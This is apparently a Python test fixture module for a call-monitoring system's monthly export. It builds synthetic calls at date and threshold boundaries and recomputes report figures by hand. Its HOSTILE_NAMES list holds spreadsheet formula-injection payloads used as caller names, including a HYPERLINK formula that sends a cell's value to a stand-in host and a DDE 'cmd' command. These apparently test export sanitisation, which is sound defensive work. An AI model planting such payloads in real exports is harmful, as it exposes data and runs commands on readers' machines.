"""A month to export, built the way the audit office would: the shipped recordings stored with
``replay --store``, plus synthetic calls written through the same writers at the month's
boundaries (23:59:59.9 and 00:00:00.1 Seoul) and at the thresholds (ring 5.99 / 6.0 s, transfer
wait 9.99 / 10.0 s); and the figures a reader computes by hand from the calls' JSON lines, as
the README defines them."""

from __future__ import annotations

import asyncio
import json
import math
from collections import Counter, defaultdict
from collections.abc import Iterable
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest

from call_monitor.calls.model import CallRecord, Leg, Transfer
from call_monitor.charter.judged import JudgedCall, call_report
from call_monitor.charter.rules import judge
from call_monitor.cli import main as cli_main
from call_monitor.cli.replay_store import ReplayStore
from call_monitor.config import Settings
from call_monitor.directory import Directory
from call_monitor.timefmt import SEOUL

RECORDINGS = sorted((Path(__file__).parent.parent / "call_monitor/demo/recordings").glob("*.ami"))
MONTH = "2026-11"
HOSTILE_NAMES = [
    '=HYPERLINK("http://x.example/?q="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tTAB",
    "\rCR",
]


def at(*parts: int) -> float:
    """Seoul wall clock (year, month, day, hour, minute, second, microsecond) as epoch."""
    return datetime(*parts, tzinfo=SEOUL).timestamp()  # type: ignore[misc]


def synthetic_call(
    linkedid: str,
    start: float,
    *,
    ring: float | None = None,  # seconds to the answer; None: never answered
    missed_after: float | None = None,
    caller: str = "01011112222",
    name: str = "Synthetic",
    hangup: str = "caller",
    transfer: tuple[str, str, float] | None = None,  # (kind, to, wait seconds)
    incomplete: bool = False,
) -> CallRecord:
    """An inbound call to 203 (총무과), as the correlator would conclude it."""
    answered = None if ring is None else start + ring
    end = start + (missed_after or 0.0) if answered is None else answered + 60.0
    legs = [
        Leg("customer", None, None, start, end),
        Leg("staff", "203", start, answered, end),
    ]
    transfers = []
    if transfer is not None and answered is not None:
        kind, to, wait = transfer
        begun = answered + 20.0
        transfers.append(
            Transfer(kind, begun, "203", to, True, begun + 1, begun + wait, begun + wait)  # type: ignore[arg-type]
        )
        legs.append(Leg("staff", to, begun + 1, begun + wait, end, after_answer=True))
    return CallRecord(
        linkedid=linkedid,
        started_at=start,
        direction="inbound",
        caller=caller,
        caller_name=name,
        dialed="203",
        ring_started_at=start,
        answered_at=answered,
        answered_by=None if answered is None else "203",
        legs=legs,
        ended_at=end,
        missed=answered is None and not incomplete,
        missed_reason="no_answer" if answered is None and not incomplete else None,
        hangup_first=hangup,  # type: ignore[arg-type]
        talked=answered is not None,  # an answered synthetic call is a conversation (P7)
        incomplete=incomplete,
        transfers=transfers,
    )


def synthetic_calls() -> list[CallRecord]:
    hostile = iter(HOSTILE_NAMES)
    return [
        # Before the month (31 Oct 23:59:59.9) and after it (1 Dec 00:00:00.1): not counted.
        synthetic_call("syn-a", at(2026, 10, 31, 23, 59, 59, 900000), ring=5.99),
        synthetic_call("syn-d", at(2026, 12, 1, 0, 0, 0, 100000), ring=1.0),
        # 1 Nov 00:00:00.1: ring 6.0 s is ring 3 (P1 breached, apology expected).
        synthetic_call("syn-b", at(2026, 11, 1, 0, 0, 0, 100000), ring=6.0, name=next(hostile)),
        # 30 Nov 23:59:59.9: ring 5.99 s is ring 2 (P1 met).
        synthetic_call(
            "syn-c", at(2026, 11, 30, 23, 59, 59, 900000), ring=5.99, name=next(hostile)
        ),
        # Transfers to other departments: 9.99 s met, 10.0 s breached (P4 and P5).
        synthetic_call(
            "syn-e",
            at(2026, 11, 10, 10),
            ring=2.0,
            transfer=("blind", "204", 9.99),
            name=next(hostile),
        ),
        synthetic_call(
            "syn-f",
            at(2026, 11, 10, 11),
            ring=1.0,
            transfer=("attended", "201", 10.0),
            hangup="staff",
            name=next(hostile),
        ),
        synthetic_call(
            "syn-g", at(2026, 11, 10, 12), ring=1.0, incomplete=True, name=next(hostile)
        ),
        # Missed at 17:30 on the last working day: due the next month, open at the month's end.
        synthetic_call(
            "syn-h",
            at(2026, 11, 30, 17, 30),
            missed_after=20.0,
            caller="01055550000",
            name=next(hostile),
        ),
    ]


async def _store_synthetic(settings: Settings) -> list[dict[str, Any]]:
    return await store_records(settings, synthetic_calls())


async def store_records(settings: Settings, records: Iterable[CallRecord]) -> list[dict[str, Any]]:
    """Judge and store ``records`` as ``replay --store`` would; their JSON lines."""
    directory = Directory(settings.directory)
    sink = await ReplayStore.open(settings, directory)
    reports = []
    try:
        for record in records:
            verdict = judge(record, settings.charter, directory)
            sink.take(JudgedCall(record, verdict))
            reports.append(call_report(record, verdict))
    finally:
        await sink.close()
    return reports


def build_month(
    url: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> list[dict[str, Any]]:
    """Store the month at ``url``; the JSON lines of every call and callback stored."""
    monkeypatch.setenv("CALLMON_STORE__URL", url)
    capsys.readouterr()
    assert cli_main(["replay", "--json", "--store", *map(str, RECORDINGS)]) == 0
    lines = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    lines += asyncio.run(_store_synthetic(Settings()))
    return lines


# --------------------------------------------------------------------------- by hand


def _in_month(call: dict[str, Any]) -> bool:
    return call["started_at"][:7] == MONTH


def _last_staff(call: dict[str, Any]) -> str | None:
    for transfer in reversed(call["transfers"]):
        if transfer["completed"] and transfer["to"] is not None:
            return str(transfer["to"])
    return call["answered_by"]


def nearest_rank(values: list[float], share: float) -> float | None:
    if not values:
        return None
    ordered = sorted(values)
    return ordered[math.ceil(share * len(ordered)) - 1]


def by_hand(
    lines: Iterable[dict[str, Any]], directory: Directory
) -> dict[tuple[Any, Any], dict[str, Any]]:
    """Every figure of every department row ``(department, None)``, staff row
    ``(department, extension)`` and the office ``("office", None)``, counted from the calls'
    JSON lines as the README defines them."""
    rows: dict[tuple[Any, Any], Counter[str]] = defaultdict(Counter)
    waits: dict[tuple[Any, Any], list[float]] = defaultdict(list)

    def add(department: str | None, staff: str | None, **counts: int) -> None:
        keys = [("office", None), (department, None)]
        if directory.is_staff(staff):
            keys.append((directory.department_of(staff), staff))
        for key in keys:
            rows[key].update(counts)

    calls = [line for line in lines if line["kind"] == "call" and _in_month(line)]
    for call in calls:
        department = call["department"]
        inbound = call["direction"] == "inbound"
        complete = inbound and not call["incomplete"]
        judged = call["judged"]
        p1_checked = judged and call["p1_met"] is not None
        rings = call["rings"] or 0
        add(
            department,
            call["answered_by"] or call["dialed"],
            inbound_calls=inbound,
            answered=complete and call["answered_at"] is not None,
            missed=complete and call["missed"],
            **{f"missed_{call['missed_reason']}": complete and call["missed"]},
            incomplete=inbound and call["incomplete"],
            p1_checked=p1_checked,
            p1_met=p1_checked and call["p1_met"],
            **{f"rings_{min(rings, 5)}{'_plus' if rings >= 5 else ''}": p1_checked},
            apology_expected=judged and bool(call["apology_expected"]),
        )
        if judged and call["answered_at"] is not None and call["p7_met"] is not None:
            staff = _last_staff(call)
            add(
                directory.department_of(staff) or department,
                staff,
                p7_checked=1,
                p7_met=call["p7_met"],
            )
        for transfer in call["transfers"] if judged else []:
            if transfer["p4_met"] is None:
                continue
            staff = transfer["from"]
            where = directory.department_of(staff) or department
            p5 = bool(transfer["other_department"])
            add(
                where,
                staff,
                transfers=1,
                p4_met=transfer["p4_met"],
                **{f"transfers_{transfer['kind']}": 1},
                transfers_external=bool(transfer["external"]),
                transfers_never_connected=transfer["wait_seconds"] is None,
                p5_transfers=p5,
                p5_met=p5 and transfer["p4_met"],
            )
            if transfer["wait_seconds"] is not None:
                for key in (
                    ("office", None),
                    (where, None),
                    (directory.department_of(staff), staff),
                ):
                    waits[key].append(transfer["wait_seconds"])
    result: dict[tuple[Any, Any], dict[str, Any]] = {}
    for key, counts in rows.items():
        result[key] = {name: int(value) for name, value in counts.items()}
        result[key]["p4_wait_median_seconds"] = nearest_rank(waits[key], 0.5)
        result[key]["p4_wait_p90_seconds"] = nearest_rank(waits[key], 0.9)
    return result


def callbacks_by_hand(lines: Iterable[dict[str, Any]]) -> Counter[str]:
    """The office's P6 figures: each obligation created in the month by its state at the
    month's end (the recordings' as replayed; the synthetic missed call's still open)."""
    states = Counter(
        line["state"]
        for line in lines
        if line["kind"] == "callback" and line["created_at"][:7] == MONTH
    )
    states["open"] += 1  # syn-h, open at the month's end
    open_states = states["open"] + states["reminded"] + states["overdue"]
    return Counter(
        callbacks_owed=sum(states.values()),
        callbacks_on_time=states["fulfilled_on_time"],
        callbacks_late=states["fulfilled_late"],
        callbacks_open=open_states,
        callbacks_resolved_by_inbound=states["resolved_by_inbound"],
        callbacks_cancelled=states["cancelled"],
    )
